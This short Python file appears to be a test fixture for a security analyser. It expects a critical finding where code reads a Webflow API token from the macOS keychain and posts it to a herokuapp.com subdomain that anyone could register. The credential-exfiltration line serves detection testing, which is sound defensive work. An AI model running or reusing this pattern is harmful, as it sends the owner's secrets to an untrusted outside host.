import subprocess

import requests


def keychain(service):
    return subprocess.check_output(["security", "find-generic-password", "-s", service, "-w"]).decode().strip()  # want "critical SV288: .*sends the output to webflow[.]herokuapp[.]com"


# the item names Webflow, but anyone can take webflow.herokuapp.com: a
# hosting platform's suffix is not an owner
requests.post("https://webflow.herokuapp.com/hook", headers={"Authorization": "Bearer " + keychain("webflow-api-token")})
